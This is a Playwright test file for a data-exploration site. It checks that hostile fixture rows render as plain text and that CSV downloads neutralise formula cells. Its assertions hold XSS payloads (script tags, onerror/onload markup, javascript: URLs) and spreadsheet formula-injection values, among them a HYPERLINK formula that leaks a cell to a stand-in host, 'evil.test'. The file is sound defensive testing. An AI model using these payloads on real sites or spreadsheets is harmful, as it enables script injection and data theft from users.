/**
 * Hostile data, end to end (research/perf-security.md §A1, §A2, §C2). tests/fixtures/hostile is a source
 * directory (data/README.md format: tests/fixtures/source-mini plus hostile rows) whose posts, handles, URLs,
 * trending titles and capture links carry script tags, event-handler markup, javascript: and data: URLs,
 * spreadsheet formulas, right-to-left overrides, zero-width characters, a 1 MB string and ids far beyond
 * 2^64. It is built once, with the real data build, into a directory of its own; the site is not rebuilt:
 * the browser is served these files in place of /data/… and the pages' inlined aggregates are removed, so
 * every page hydrates from the hostile build. Asserted: nothing executes, nothing renders as markup, links
 * are http(s) only, pages keep their content, and every CSV a reader can download is spreadsheet-safe.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext } from '@playwright/test';
import Papa from 'papaparse';
import { expect, test } from './helpers/guard';
import { assertInert } from './helpers/inert';
import { sitePages } from './helpers/site';

const SOURCE = 'tests/fixtures/hostile';
const HUGE = '99999999999999999999999999999999';
const U64 = '18446744073709551616';
const RLO = '\u202e';
const ZW = '\u200b';
/** Markers of the hostile rows' text, to find them wherever they are shown. */
const PAYLOADS = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>'];
/** A spreadsheet formula trigger at the start of a cell (ASVS 5.0 §1.2.10; papaparse's escapeFormulae set). */
const FORMULA = /^[=+\-@\t\r\0]/;

let out = '';

test.beforeAll(async ({ browserName: _browser }, info) => {
	test.setTimeout(180_000);
	out = join(info.project.outputDir, 'hostile-data');
	// Built once per run (test-results/ is emptied when a run starts); a worker restarted after a failure reuses it.
	if (existsSync(join(out, 'manifest.json'))) return;
	execFileSync(
		process.execPath,
		['node_modules/tsx/dist/cli.mjs', 'scripts/build-data.ts', '--source', SOURCE, '--out', out, '--quiet'],
		{ stdio: 'pipe', env: { ...process.env, TZ: 'UTC' } }
	);
});

const CONTENT_TYPES: Record<string, string> = {
	json: 'application/json',
	arrow: 'application/vnd.apache.arrow.stream',
	csv: 'text/csv; charset=utf-8',
	parquet: 'application/octet-stream'
};

/**
 * Serves the hostile build in place of /data/… and strips the aggregates SvelteKit inlined into each page
 * at prerender time, so hydration fetches (hostile) aggregates like a client-side navigation does.
 */
async function useHostileData(context: BrowserContext) {
	await context.route(/\/data\/.+\.(json|arrow|csv|parquet)(\?.*)?$/, async (route) => {
		const path = decodeURIComponent(new URL(route.request().url()).pathname).replace(/^\/data\//, '');
		const file = join(out, path);
		if (path.includes('..') || !existsSync(file)) return route.fulfill({ status: 404, body: 'not found' });
		const ext = path.split('.').pop()!;
		await route.fulfill({ status: 200, body: readFileSync(file), contentType: CONTENT_TYPES[ext] });
	});
	await context.route(
		(url) => url.pathname.endsWith('/') && !url.pathname.startsWith('/_app/'),
		async (route) => {
			const response = await route.fetch();
			const html = (await response.text()).replace(
				/<script type="application\/json" data-sveltekit-fetched[^>]*>[\s\S]*?<\/script>/g,
				''
			);
			await route.fulfill({ response, body: html });
		}
	);
}

/** Parses a CSV exactly as a spreadsheet would see the cells (no type guessing). */
const parseCsv = (text: string) =>
	Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { header: false, skipEmptyLines: true }).data;

/** Cells of a CSV that a spreadsheet would run as a formula. Numbers (-5, -0.5) are not formulas. */
const formulaCells = (rows: string[][]) =>
	rows.flatMap((row, i) =>
		row
			.filter((cell) => FORMULA.test(cell) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell))
			.map((cell) => `row ${i + 1}: ${JSON.stringify(cell.slice(0, 60))}`)
	);

test.describe('the data build', () => {
	test('keeps hostile values verbatim as data: huge ids as strings, 1 MB text, RTL and zero-width', () => {
		const rows = Papa.parse<Record<string, string>>(readFileSync(join(out, 'posts.csv'), 'utf8'), {
			header: true,
			skipEmptyLines: true
		}).data;
		const byId = new Map(rows.map((r) => [r.post_id, r]));
		expect(byId.get(`twitter:${HUGE}`)?.text).toContain(HUGE);
		expect(byId.get(`twitter:${U64}`)?.cascade_id).toBe(`twitter:${HUGE}`);
		expect(byId.get(`twitter:${HUGE}`)?.author_id).toBe(`twitter:${U64}`);
		expect(byId.get('twitter:simh14')?.text.length).toBe(1024 * 1024 + 7);
		expect(byId.get('twitter:simh12')?.text).toContain(RLO);
		expect(byId.get('twitter:simh13')?.author_handle).toBe(`sim${ZW}en${ZW}zw`);
		expect(byId.get('twitter:simh01')?.text).toBe('<script>alert(1)</script> hostile-script');
		const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8'));
		expect(JSON.stringify(manifest)).toContain('hostile');
	});

	test('every CSV download is spreadsheet-safe: formula cells get a leading apostrophe', () => {
		const csvs = readdirSync(out).filter((f) => f.endsWith('.csv'));
		expect(csvs).toEqual(expect.arrayContaining(['posts.csv', 'trending_items.csv', 'snapshots.csv']));
		for (const f of csvs) expect(formulaCells(parseCsv(readFileSync(join(out, f), 'utf8'))), f).toEqual([]);
		const text = new Map(
			Papa.parse<Record<string, string>>(readFileSync(join(out, 'posts.csv'), 'utf8'), {
				header: true,
				skipEmptyLines: true
			}).data.map((r) => [r.post_id, r.text])
		);
		expect(text.get('twitter:simh04')).toBe(`'=HYPERLINK("http://evil.test/?leak="&A1,"click me")`);
		expect(text.get('twitter:simh05')).toBe(`'+1+1 hostile-plus`);
		expect(text.get('twitter:simh06')).toBe(`'-2+3 hostile-minus`);
		expect(text.get('twitter:simh07')).toBe(`'@SUM(A1:A9) hostile-at`);
		expect(text.get('twitter:simh08')).toBe(`'\t=1+1 hostile-tab`);
		expect(text.get('twitter:simh09')).toBe(`'\r=1+1 hostile-cr`);
		expect(text.get('twitter:simh10')).toBe(`'=1+1\nnote on a second line hostile-multiline`);
		// A quote inside the text cannot end the cell early and start a formula cell.
		expect(text.get('twitter:simh11')).toBe('a","=1+1 hostile-quote-break');
	});
});

test.describe('pages on hostile data', () => {
	test.beforeEach(async ({ context }) => useHostileData(context));

	test('the explorer lists hostile posts as plain text', async ({ page }) => {
		test.setTimeout(180_000);
		await page.goto('/explore/');
		await expect(page.locator('.engine-status').first()).toHaveAttribute('data-phase', 'ready', {
			timeout: 120_000
		});
		const table = page.locator('table').filter({ hasText: 'hostile-' }).first();
		await expect(table).toBeVisible({ timeout: 60_000 });
		for (const p of PAYLOADS.slice(0, 2))
			await expect(table.getByText(p, { exact: false }).first()).toBeVisible();
		await assertInert(page, '/explore/');
		// The 1 MB post must not push the page sideways.
		const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
		expect(overflow, 'horizontal overflow (px)').toBeLessThanOrEqual(1);
	});

	test('the SQL console shows hostile values and hostile error messages as text', async ({ page }) => {
		test.setTimeout(180_000);
		await page.goto('/explore/sql/');
		await expect(page.getByTestId('sql-console')).toHaveAttribute('data-ready', 'true');
		const box = page.getByTestId('sql-console').locator('textarea');
		await box.fill(
			"SELECT author_handle, text, url FROM posts WHERE text LIKE '%hostile-%' AND length(text) < 1000 ORDER BY post_id"
		);
		await page.getByTestId('sql-run').click();
		const result = page.getByTestId('sql-result');
		await expect(result).toBeVisible({ timeout: 120_000 });
		await expect(result.getByText('<img src=x onerror=alert(1)>', { exact: true })).toBeVisible();
		await expect(result.getByText('javascript:alert(1)', { exact: true })).toBeVisible();
		await assertInert(page, 'SQL result');

		await box.fill(`SELECT '<img src=x onerror=alert(9)>'::INTEGER`);
		await page.getByTestId('sql-run').click();
		await expect(page.getByTestId('sql-error')).toContainText('<img src=x onerror=alert(9)>');
		await assertInert(page, 'SQL error');
	});

	// English only: Korean pages draw the same data with the same components (pages.spec.ts covers their text).
	const storyPages = sitePages().filter(
		(p) => p.lang === 'en' && !p.dev && !p.staticEmbed && !/\/explore\//.test(p.path)
	);
	for (const p of storyPages) {
		test(`${p.path} hydrates from hostile aggregates without executing or rendering them`, async ({
			page,
			guard
		}) => {
			// Charts may say a capture or cascade in the URL is missing from this small dataset; not an error.
			guard.allowConsole(/Failed to load resource: the server responded with a status of 404/);
			await page.goto(p.path);
			await page.waitForLoadState('networkidle', { timeout: 15_000 }).catch(() => undefined);
			await assertInert(page, p.path);
			const text = await page.locator(p.embed ? 'body' : 'main').innerText();
			expect(text.trim().length, 'the page still has its content').toBeGreaterThan(p.embed ? 40 : 200);
		});
	}

	test('the trending grid shows hostile titles as text and offers no javascript: archive link', async ({
		page
	}) => {
		await page.goto('/trending/?capture=trending-all-20221216T000000Z');
		await page.waitForLoadState('networkidle', { timeout: 15_000 }).catch(() => undefined);
		await expect(page.getByText('<script>alert(1)</script>').first()).toBeAttached();
		await assertInert(page, '/trending/ hostile capture');
	});

	test('a chart’s “data shown” CSV of hostile rows is spreadsheet-safe', async ({ page }) => {
		await page.goto('/trending/?capture=trending-all-20221216T000000Z');
		await page.waitForLoadState('networkidle', { timeout: 15_000 }).catch(() => undefined);
		const frame = page
			.locator('figure, .chart-frame')
			.filter({ hasText: '<script>alert(1)</script>' })
			.first();
		await frame.locator('details[data-action="download"] > summary').first().click();
		const button = frame.locator('[data-download="shown-csv"]').first();
		await expect(button).toBeEnabled();
		const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
		const body = readFileSync((await download.path())!, 'utf8');
		const rows = parseCsv(body);
		expect(rows.length).toBeGreaterThan(1);
		expect(formulaCells(rows)).toEqual([]);
		expect(body).toContain(`'=HYPERLINK(""http://evil.test/"",""x"")`);
		expect(body).toContain('<script>alert(1)</script>');
	});
});
